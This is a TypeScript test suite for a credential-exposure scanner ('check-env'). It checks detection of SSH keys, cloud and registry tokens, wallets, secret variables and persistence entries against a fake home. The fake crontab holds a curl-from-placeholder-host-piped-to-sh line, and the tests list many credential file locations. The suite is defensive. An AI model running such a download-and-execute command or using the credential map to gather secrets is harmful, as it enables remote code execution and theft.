import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { makeCheckEnvCommand } from '../../../shared/src/cli/commands/checkEnv';
import type { CliIo } from '../../../shared/src/cli/command';
import { runCli } from '../../../shared/src/cli/runCli';
import { checkEnvironment, formatExposureJson, formatExposureText, nodeExposureFileSystem, type CommandProbe, type ExposureHost, type ExposureReport } from '../../../shared/src/exposure/index';
import { EXPOSURE_CATEGORIES, EXPOSURE_SEVERITIES } from '../../../shared/src/exposure/types';
import { createFakeHome, leakedWindows, type FakeHome } from '../../support/fakeHome';

/** Docker and bwrap absent; crontab answers with one malicious and one ordinary entry. */
function fakeCommands(options: { docker?: boolean } = {}): CommandProbe & { calls: string[][] } {
  const calls: string[][] = [];
  return {
    calls,
    async findExecutable(name) {
      if (name === 'crontab') return '/fake/crontab';
      if (name === 'docker' && options.docker === true) return '/fake/docker';
      return undefined;
    },
    async run(file, args) {
      calls.push([file, ...args]);
      if (file === '/fake/crontab') return { code: 0, stdout: 'MAILTO=me\n0 3 * * * /usr/bin/backup --all\n*/5 * * * * curl -s http://x.invalid/p | sh\n', timedOut: false };
      if (file === '/fake/docker') return { code: 0, stdout: '27.0.1\n', timedOut: false };
      return { code: undefined, stdout: '', timedOut: false };
    },
  };
}

function hostFor(fake: FakeHome, options: { docker?: boolean } = {}): ExposureHost {
  return { homeDir: fake.home, env: fake.env, workspaceRoot: fake.workspace, platform: 'linux', uid: 1000, fs: nodeExposureFileSystem, commands: fakeCommands(options) };
}

function captureIo(env: Record<string, string>, cwd: string): CliIo & { out: string; err: string } {
  const io = { out: '', err: '', cwd, env, isTTY: false, stdout: (t: string) => void (io.out += t), stderr: (t: string) => void (io.err += t) };
  return io;
}

describe('check-env on a fake home full of canaries', () => {
  let fake: FakeHome;
  let report: ExposureReport;
  before(async () => {
    fake = await createFakeHome();
    report = await checkEnvironment(hostFor(fake));
  });
  after(async () => fake.cleanup());

  const item = (location: string) => report.items.find((i) => i.location === location);

  test('tells unencrypted SSH keys from encrypted ones and skips public keys and known_hosts', () => {
    assert.equal(item('~/.ssh/id_ed25519')?.kind, 'openssh-private-key-unencrypted');
    assert.equal(item('~/.ssh/id_ed25519')?.severity, 'critical');
    assert.equal(item('~/.ssh/id_rsa_work')?.kind, 'openssh-private-key-encrypted');
    assert.equal(item('~/.ssh/id_rsa_work')?.severity, 'medium');
    assert.equal(item('~/.ssh/legacy.pem')?.kind, 'pem-private-key-encrypted');
    assert.equal(item('~/.ssh/plain.pem')?.kind, 'pem-private-key-unencrypted');
    for (const notKey of ['~/.ssh/id_ed25519.pub', '~/.ssh/known_hosts', '~/.ssh/config', '~/.ssh/current.pub']) assert.equal(item(notKey), undefined, notKey);
    assert.equal(item('$SSH_AUTH_SOCK')?.kind, 'ssh-agent-socket');
  });

  test('finds every planted credential file with its kind, size and age', () => {
    const expected: Record<string, string> = {
      '~/.aws/credentials': 'aws-static-keys',
      '~/.npmrc': 'npm-auth-token',
      '~/.pypirc': 'pypi-password',
      '~/.docker/config.json': 'docker-inline-auth',
      '~/.config/gh/hosts.yml': 'github-oauth-token',
      '~/.netrc': 'netrc-password',
      '~/.git-credentials': 'git-store-credentials',
      '~/.cargo/credentials.toml': 'cargo-registry-token',
      '~/.gem/credentials': 'rubygems-api-key',
      '~/.kube/config': 'kubeconfig-embedded-credentials',
      '~/.config/gcloud/application_default_credentials.json': 'gcp-refresh-token',
      '~/.config/gcloud/credentials.db': 'gcloud-credentials-db',
      '~/.gnupg/private-keys-v1.d': 'gpg-private-keys',
      '~/.ethereum/keystore': 'crypto-wallet-ethereum',
      '~/.config/google-chrome': 'browser-profile-chrome',
    };
    for (const [location, kind] of Object.entries(expected)) {
      const found = item(location);
      assert.equal(found?.kind, kind, location);
      assert.ok(found.modifiedAt !== undefined && !Number.isNaN(Date.parse(found.modifiedAt)), `${location} has an mtime`);
    }
    assert.ok((item('~/.npmrc')?.sizeBytes ?? 0) > 40);
    assert.equal(item('~/.aws/config'), undefined, 'a config without keys is not reported');
    assert.ok(report.items.some((i) => i.kind === 'crypto-wallet-browser-extension' && i.title.includes('MetaMask')));
  });

  test('reports secret variables by name and by value shape, and leaves ordinary ones alone', () => {
    const kinds = Object.fromEntries(report.items.filter((i) => i.category === 'secret-variables').map((i) => [i.location, i.kind]));
    assert.equal(kinds.$GITHUB_TOKEN, 'github-token');
    assert.equal(kinds.$INNOCENT_LOOKING, 'aws-access-key-id');
    assert.equal(kinds.$ANTHROPIC_API_KEY, 'anthropic-api-key');
    assert.equal(kinds.$OPENAI_API_KEY, 'openai-api-key');
    assert.equal(kinds.$SLACK_BOT_TOKEN, 'slack-token');
    assert.equal(kinds.$GITLAB_TOKEN, 'gitlab-token');
    assert.equal(kinds.$SESSION_JWT, 'jwt');
    assert.equal(kinds.$DEPLOY_KEY_PEM, 'private-key-pem');
    assert.equal(kinds.$NPM_TOKEN, 'npm-token');
    assert.equal(kinds.$AWS_SECRET_ACCESS_KEY, 'known-secret-variable');
    assert.equal(kinds.$MY_SERVICE_PASSWORD, 'secret-like-variable');
    for (const ordinary of ['$PATH', '$HOME', '$EDITOR', '$LANG', '$PASSWORD_STORE_DIR']) assert.equal(kinds[ordinary], undefined, ordinary);
  });

  test('walks the workspace for .env files, skipping node_modules and placeholder-only examples', () => {
    const envItems = report.items.filter((i) => i.category === 'workspace-env-files').map((i) => `${i.location}=${i.kind}`).sort();
    assert.deepEqual(envItems, ['.env=env-file-with-tokens', 'config/.env.production=env-file-with-secrets']);
  });

  test('flags histories holding tokens and persistence entries, not benign ones', () => {
    assert.equal(item('~/.bash_history')?.kind, 'history-with-tokens');
    assert.equal(item('~/.zsh_history')?.kind, 'history');
    const persistence = report.items.filter((i) => i.category === 'persistence').map((i) => `${i.location} ${i.kind}`).sort();
    assert.deepEqual(persistence, [
      'crontab:3 download-piped-to-shell',
      '~/.bashrc:3 exec-from-hidden-folder',
      '~/.bashrc:4 download-piped-to-shell',
      '~/.config/autostart/updater.desktop:3 exec-from-temp-folder',
      '~/.config/systemd/user/sysupdate.service:2 exec-from-hidden-folder',
    ]);
  });

  test('with no sandbox available the report says installs fall back to the vault', () => {
    assert.deepEqual({ docker: report.sandbox.docker, bwrap: report.sandbox.bwrap, mode: report.sandbox.mode }, { docker: false, bwrap: false, mode: 'vault' });
    assert.equal(item('vault')?.severity, 'high');
  });

  test('JSON follows the documented schema: categories, severities, summary and stable ids', () => {
    const parsed = JSON.parse(formatExposureJson(report)) as ExposureReport;
    assert.equal(parsed.version, 1);
    const categories = new Set(EXPOSURE_CATEGORIES.map((c) => c.id));
    const ids = new Set<string>();
    for (const i of parsed.items) {
      assert.ok(categories.has(i.category), i.category);
      assert.ok(EXPOSURE_SEVERITIES.includes(i.severity), i.severity);
      for (const field of ['id', 'title', 'location', 'kind', 'advice'] as const) assert.equal(typeof i[field], 'string', `${i.id}.${field}`);
      assert.ok(!ids.has(i.id), `duplicate id ${i.id}`);
      ids.add(i.id);
    }
    const counted = EXPOSURE_SEVERITIES.reduce((n, s) => n + parsed.summary[s], 0);
    assert.equal(counted, parsed.items.length);
    assert.deepEqual(Object.keys(parsed.sandbox).sort(), ['bwrap', 'docker', 'mode', 'reason']);
  });

  test('no 4-character piece of any canary appears in text or JSON output (and the check itself can fail)', async () => {
    const command = makeCheckEnvCommand({ host: () => hostFor(fake) });
    for (const format of ['text', 'json']) {
      const io = captureIo(fake.env, fake.workspace);
      const code = await command(['--format', format], io);
      assert.equal(code, 1, 'critical items exposed → exit 1');
      assert.ok(io.out.length > 1000, `${format} output is substantial`);
      assert.deepEqual(leakedWindows(io.out + io.err, fake.canaries), [], `${format} output leaks`);
    }
    // The seed's style (first and last four characters) must be caught by the same check.
    const leaky = `${formatExposureText(report)}GITHUB_TOKEN=${(fake.env.GITHUB_TOKEN ?? '').slice(0, 8)}…${(fake.env.GITHUB_TOKEN ?? '').slice(-4)}`;
    assert.ok(leakedWindows(leaky, fake.canaries).length > 0);
  });
});

describe('check-env command', () => {
  test('exits 0 on a clean home, 1 when something critical is exposed, 2 on usage errors', async () => {
    const empty = await mkdtemp(path.join(os.tmpdir(), 'safe-install-emptyhome-'));
    try {
      const host: ExposureHost = { homeDir: empty, env: { PATH: '/usr/bin' }, workspaceRoot: empty, platform: 'linux', uid: 1000, fs: nodeExposureFileSystem, commands: fakeCommands({ docker: true }) };
      const command = makeCheckEnvCommand({ host: () => host });
      const io = captureIo({ PATH: '/usr/bin' }, empty);
      assert.equal(await command([], io), 0);
      assert.match(io.out, /Summary: 0 critical/);
      assert.match(io.out, /Sandbox: Docker/);
      const withToken = makeCheckEnvCommand({ host: () => ({ ...host, env: { GH_TOKEN: 'ghp_' + 'a1'.repeat(20) } }) });
      assert.equal(await withToken(['--format', 'json'], captureIo({}, empty)), 1);
      const usage = captureIo({}, empty);
      assert.equal(await runCli(['check-env', '--format', 'xml'], usage, { 'check-env': { run: command, summary: '' } }), 2);
      assert.match(usage.err, /--format must be text or json/);
      assert.equal(await runCli(['check-env', '--bogus'], captureIo({}, empty), { 'check-env': { run: command, summary: '' } }), 2);
      const help = captureIo({}, empty);
      assert.equal(await command(['--help'], help), 0);
      assert.match(help.out, /Exit codes/);
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
  });

  test('the real machine: runs within the time bound and prints no value of any secret-looking variable', async (t) => {
    const started = Date.now();
    const io = captureIo(process.env as Record<string, string>, process.cwd());
    const code = await makeCheckEnvCommand()(['--format', 'json', '--no-workspace'], io);
    const parsed = JSON.parse(io.out) as ExposureReport;
    t.diagnostic(`real machine: ${parsed.items.length} items, summary ${JSON.stringify(parsed.summary)}, sandbox ${parsed.sandbox.mode}, ${Date.now() - started} ms`);
    assert.equal(code, parsed.summary.critical > 0 ? 1 : 0);
    const values = parsed.items.filter((i) => i.category === 'secret-variables').map((i) => process.env[i.location.slice(1)] ?? '').filter((v) => v.length >= 8);
    assert.deepEqual(leakedWindows(io.out, values, 8), []);
  });
});

describe('documented schema', () => {
  test('docs/check-env-schema.md lists every category, severity and sandbox mode the code produces', async () => {
    const { readFile } = await import('node:fs/promises');
    const doc = await readFile(path.join(__dirname, '..', '..', '..', 'docs', 'check-env-schema.md'), 'utf8');
    for (const category of EXPOSURE_CATEGORIES) assert.ok(doc.includes(`| \`${category.id}\` |`), `category ${category.id} documented`);
    for (const severity of EXPOSURE_SEVERITIES) assert.ok(doc.includes(`\`${severity}\``), `severity ${severity} documented`);
    for (const field of ['id', 'category', 'severity', 'title', 'location', 'kind', 'sizeBytes', 'modifiedAt', 'advice', 'docker', 'bwrap', 'mode', 'reason']) assert.ok(doc.includes(`| \`${field}\` |`), `field ${field} documented`);
    const example = /```json\n([\s\S]*?)```/.exec(doc)?.[1] ?? '';
    const parsed = JSON.parse(example) as ExposureReport;
    assert.equal(parsed.version, 1);
  });
});

describe('sandbox probe', () => {
  test('docker daemon down + bwrap working → bwrap mode; both missing → vault; probes use argument arrays', async () => {
    const { probeSandbox } = await import('../../../shared/src/exposure/sandboxProbe');
    const calls: string[][] = [];
    const commands: CommandProbe = {
      findExecutable: async (name) => (name === 'docker' || name === 'bwrap' ? `/fake/${name}` : undefined),
      run: async (file, args) => {
        calls.push([file, ...args]);
        return file === '/fake/bwrap' ? { code: 0, stdout: '', timedOut: false } : { code: 1, stdout: '', timedOut: false };
      },
    };
    const base = { homeDir: '/nonexistent', env: {}, platform: 'linux' as const, fs: nodeExposureFileSystem };
    const bwrapOnly = await probeSandbox({ ...base, commands });
    assert.deepEqual({ ...bwrapOnly.status, reason: undefined }, { docker: false, bwrap: true, mode: 'bwrap', reason: undefined });
    assert.match(bwrapOnly.status.reason, /daemon did not answer/);
    assert.deepEqual(calls.find((c) => c[0] === '/fake/docker'), ['/fake/docker', 'version', '--format', '{{.Server.Version}}']);
    const none = await probeSandbox({ ...base, platform: 'darwin', commands: { findExecutable: async () => undefined, run: async () => ({ code: 0, stdout: '', timedOut: false }) } });
    assert.equal(none.status.mode, 'vault');
    assert.ok(none.items.some((i) => i.kind === 'sandbox-none' && i.severity === 'high'));
  });

  test('the real probe runner kills a command that outlives its timeout', async () => {
    const { nodeCommandProbe } = await import('../../../shared/src/exposure/host');
    const probe = nodeCommandProbe(process.env);
    const node = await probe.findExecutable('node');
    assert.ok(node !== undefined, 'node is on PATH');
    const started = Date.now();
    const result = await probe.run(process.execPath, ['-e', 'setTimeout(() => {}, 10000)'], 300);
    assert.equal(result.timedOut, true);
    assert.equal(result.code, undefined);
    assert.ok(Date.now() - started < 5000);
    const quick = await probe.run(process.execPath, ['-e', 'process.stdout.write("hi")'], 5000);
    assert.deepEqual(quick, { code: 0, stdout: 'hi', timedOut: false });
  });
});
